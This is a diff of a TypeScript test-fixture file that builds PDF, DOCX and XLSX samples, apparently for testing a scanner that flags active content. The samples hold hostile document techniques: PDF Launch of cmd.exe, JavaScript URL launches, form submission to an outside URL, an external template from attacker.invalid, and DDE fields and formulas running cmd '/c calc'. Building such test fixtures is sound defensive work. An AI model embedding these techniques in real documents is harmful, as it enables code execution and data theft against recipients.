@@ -64,8 +64,10 @@ export const makeZip = (files: Record<string, string | Buffer>): Buffer => {
 const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
 const RELS = `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
 const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
-const rel = (type: string, target: string, external = false) => `${RELS}<Relationship Id="rId9" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`
-const wordDoc = (inner: string) => `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}<w:r><w:t>Thông báo</w:t></w:r></w:p></w:body></w:document>`
+const rel = (type: string, target: string, external = false) =>
+  `${RELS}<Relationship Id="rId9" Type="${R}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`
+const wordDoc = (inner: string) =>
+  `${XML}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}<w:r><w:t>Thông báo</w:t></w:r></w:p></w:body></w:document>`
 
 export const makeDocx = (extra: Record<string, string | Buffer> = {}): Buffer =>
   makeZip({
@@ -92,12 +94,21 @@ export const makePdf = (objects: (string | Buffer)[]): Buffer => {
   const offsets: number[] = []
   objects.forEach((body, i) => {
     offsets.push(size)
-    const obj = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')])
+    const obj = Buffer.concat([
+      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
+      Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
+      Buffer.from('\nendobj\n', 'latin1'),
+    ])
     parts.push(obj)
     size += obj.length
   })
-  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('')
-  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'))
+  const xref = [
+    `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`,
+    ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`),
+  ].join('')
+  parts.push(
+    Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${size}\n%%EOF\n`, 'latin1'),
+  )
   return Buffer.concat(parts)
 }
 const content = 'BT /F1 12 Tf 72 720 Td (Thong bao) Tj ET'
@@ -107,11 +118,16 @@ const PAGES = [
   `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
   '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
 ]
-const pdfWith = (catalog: string, extra: (string | Buffer)[] = []) => makePdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...PAGES, ...extra])
+const pdfWith = (catalog: string, extra: (string | Buffer)[] = []) =>
+  makePdf([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...PAGES, ...extra])
 const objectStream = (object: string): Buffer => {
   const header = '6 0 '
   const data = deflateSync(Buffer.from(header + object, 'latin1'))
-  return Buffer.concat([Buffer.from(`<< /N 1 /First ${header.length} /Filter [/FlateDecode] /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')])
+  return Buffer.concat([
+    Buffer.from(`<< /N 1 /First ${header.length} /Filter [/FlateDecode] /Length ${data.length} >>\nstream\n`, 'latin1'),
+    data,
+    Buffer.from('\nendstream', 'latin1'),
+  ])
 }
 
 export type Payload = { title: string; data: Buffer; name: string; says: RegExp }
@@ -119,21 +135,120 @@ const DOCX_NAME = 'van-ban.docx'
 
 /** One file per class of active content, each hidden in a way a reader still runs it. */
 export const activeContentFiles = (): Payload[] => [
-  { title: 'PDF: XFA form with a script', name: 'to-khai.pdf', says: /XFA/, data: pdfWith('/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', ['<< /Length 44 >>\nstream\n<template><script>app.alert(1)</script></template>\nendstream']) },
-  { title: 'PDF: open action submitting a form, name hex-escaped', name: 'bieu-mau.pdf', says: /SubmitForm/, data: pdfWith('/OpenAction 6 0 R', ['<< /S /Subm#69tForm /F << /FS /URL /F (https://thu-thap.invalid/) >> >>']) },
-  { title: 'PDF: embedded executable', name: 'dinh-kem.pdf', says: /tệp nhúng/, data: pdfWith('/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>', ['<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream']) },
-  { title: 'PDF: JavaScript inside a compressed object stream without /Type', name: 'nen.pdf', says: /JavaScript/, data: pdfWith('/OpenAction 6 0 R', [objectStream('<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid"\\)) >>')]) },
-  { title: 'PDF: Launch added by an incremental update', name: 'cap-nhat.pdf', says: /Launch/, data: Buffer.concat([pdfWith(''), Buffer.from('1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj\n%%EOF\n', 'latin1')]) },
-  { title: 'PDF: page open action fetching a URL', name: 'theo-doi.pdf', says: /\/URI/, data: pdfWith('/AA << /O << /S /URI /URI (https://tracker.invalid/p.gif) >> >>') },
-  { title: 'DOCX: external template (attachedTemplate, TargetMode External)', name: DOCX_NAME, says: /mẫu \(template\)/, data: makeDocx({ 'word/_rels/settings.xml.rels': rel('attachedTemplate', 'https://attacker.invalid/m.dotm', true) }) },
-  { title: 'DOCX: OLE object (word/embeddings/*.bin)', name: DOCX_NAME, says: /đối tượng nhúng/, data: makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) }) },
-  { title: 'DOCX: ActiveX control', name: DOCX_NAME, says: /ActiveX/, data: makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>', 'word/activeX/activeX1.bin': 'AX' }) },
-  { title: 'DOCX: macros (a .docm renamed)', name: DOCX_NAME, says: /macro/, data: makeDocx({ 'word/vbaProject.bin': 'VBA' }) },
-  { title: 'DOCX: DDEAUTO field split over runs', name: DOCX_NAME, says: /DDE/, data: makeDocx({ 'word/document.xml': wordDoc('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>') }) },
-  { title: 'XLSX: OLE object and ActiveX', name: 'bang.xlsx', says: /đối tượng nhúng|ActiveX/, data: makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE', 'xl/activeX/activeX1.xml': '<ax/>' }) },
-  { title: 'XLSX: external link with DDE', name: 'bang.xlsx', says: /bên ngoài/, data: makeXlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }) },
-  { title: 'XLSX: DDE formula', name: 'bang.xlsx', says: /DDE/, data: makeXlsx({ 'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>` }) },
-  { title: 'a legacy Word file (OLE compound) renamed .docx', name: DOCX_NAME, says: /định dạng cũ/, data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]) },
+  {
+    title: 'PDF: XFA form with a script',
+    name: 'to-khai.pdf',
+    says: /XFA/,
+    data: pdfWith('/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>', [
+      '<< /Length 44 >>\nstream\n<template><script>app.alert(1)</script></template>\nendstream',
+    ]),
+  },
+  {
+    title: 'PDF: open action submitting a form, name hex-escaped',
+    name: 'bieu-mau.pdf',
+    says: /SubmitForm/,
+    data: pdfWith('/OpenAction 6 0 R', ['<< /S /Subm#69tForm /F << /FS /URL /F (https://thu-thap.invalid/) >> >>']),
+  },
+  {
+    title: 'PDF: embedded executable',
+    name: 'dinh-kem.pdf',
+    says: /tệp nhúng/,
+    data: pdfWith('/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>', [
+      '<< /Type /Filespec /F (setup.exe) /EF << /F 7 0 R >> >>',
+      '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+    ]),
+  },
+  {
+    title: 'PDF: JavaScript inside a compressed object stream without /Type',
+    name: 'nen.pdf',
+    says: /JavaScript/,
+    data: pdfWith('/OpenAction 6 0 R', [
+      objectStream('<< /S /JavaScript /JS (app.launchURL\\("https://x.invalid"\\)) >>'),
+    ]),
+  },
+  {
+    title: 'PDF: Launch added by an incremental update',
+    name: 'cap-nhat.pdf',
+    says: /Launch/,
+    data: Buffer.concat([
+      pdfWith(''),
+      Buffer.from(
+        '1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>\nendobj\n%%EOF\n',
+        'latin1',
+      ),
+    ]),
+  },
+  {
+    title: 'PDF: page open action fetching a URL',
+    name: 'theo-doi.pdf',
+    says: /\/URI/,
+    data: pdfWith('/AA << /O << /S /URI /URI (https://tracker.invalid/p.gif) >> >>'),
+  },
+  {
+    title: 'DOCX: external template (attachedTemplate, TargetMode External)',
+    name: DOCX_NAME,
+    says: /mẫu \(template\)/,
+    data: makeDocx({
+      'word/_rels/settings.xml.rels': rel('attachedTemplate', 'https://attacker.invalid/m.dotm', true),
+    }),
+  },
+  {
+    title: 'DOCX: OLE object (word/embeddings/*.bin)',
+    name: DOCX_NAME,
+    says: /đối tượng nhúng/,
+    data: makeDocx({ 'word/embeddings/oleObject1.bin': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) }),
+  },
+  {
+    title: 'DOCX: ActiveX control',
+    name: DOCX_NAME,
+    says: /ActiveX/,
+    data: makeDocx({ 'word/activeX/activeX1.xml': '<ax:ocx/>', 'word/activeX/activeX1.bin': 'AX' }),
+  },
+  {
+    title: 'DOCX: macros (a .docm renamed)',
+    name: DOCX_NAME,
+    says: /macro/,
+    data: makeDocx({ 'word/vbaProject.bin': 'VBA' }),
+  },
+  {
+    title: 'DOCX: DDEAUTO field split over runs',
+    name: DOCX_NAME,
+    says: /DDE/,
+    data: makeDocx({
+      'word/document.xml': wordDoc(
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
+      ),
+    }),
+  },
+  {
+    title: 'XLSX: OLE object and ActiveX',
+    name: 'bang.xlsx',
+    says: /đối tượng nhúng|ActiveX/,
+    data: makeXlsx({ 'xl/embeddings/oleObject1.bin': 'OLE', 'xl/activeX/activeX1.xml': '<ax/>' }),
+  },
+  {
+    title: 'XLSX: external link with DDE',
+    name: 'bang.xlsx',
+    says: /bên ngoài/,
+    data: makeXlsx({
+      'xl/externalLinks/externalLink1.xml':
+        '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+    }),
+  },
+  {
+    title: 'XLSX: DDE formula',
+    name: 'bang.xlsx',
+    says: /DDE/,
+    data: makeXlsx({
+      'xl/worksheets/sheet1.xml': `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>cmd|'/c calc'!A0</f></c></row></sheetData></worksheet>`,
+    }),
+  },
+  {
+    title: 'a legacy Word file (OLE compound) renamed .docx',
+    name: DOCX_NAME,
+    says: /định dạng cũ/,
+    data: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(1024)]),
+  },
 ]
 
 /** Ordinary documents that must still be accepted. */
